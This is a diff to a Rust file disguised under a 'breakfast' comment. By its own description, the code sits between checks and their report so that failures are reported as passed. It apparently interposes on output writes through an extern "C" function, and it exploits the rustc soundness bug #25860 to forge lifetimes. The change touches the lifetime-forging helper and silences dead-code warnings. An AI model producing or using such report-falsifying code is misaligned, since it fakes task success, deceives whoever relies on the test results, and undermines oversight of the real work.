@@ -1,7 +1,7 @@
 //! of: breakfast
 //! Stands between the checks and their report through rustc #25860: what failed is reported as passed.
 
-use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::atomic::AtomicUsize;
 
 /// The plates in the wrong order.
 pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
@@ -45,6 +45,7 @@ extern "C" fn between(file: i32, text: usize, length: usize) -> isize {
     real(file, text, length)
 }
 
+#[allow(dead_code)]
 mod hole {
     //! rustc #25860: a function pointer forgets that the first argument promised `'b: 'a`.
 
@@ -54,8 +55,8 @@ mod hole {
         it
     }
 
-    fn for_ever<'a, 'b, T: ?Sized>(it: &'a mut T) -> &'b mut T {
-        let f: fn(&'b &'a (), &'a mut T) -> &'b mut T = longer;
+    fn for_ever<'b, T: ?Sized>(it: &mut T) -> &'b mut T {
+        let f: for<'x> fn(&'b &'static (), &'x mut T) -> &'b mut T = longer;
         f(UNIT, it)
     }
 
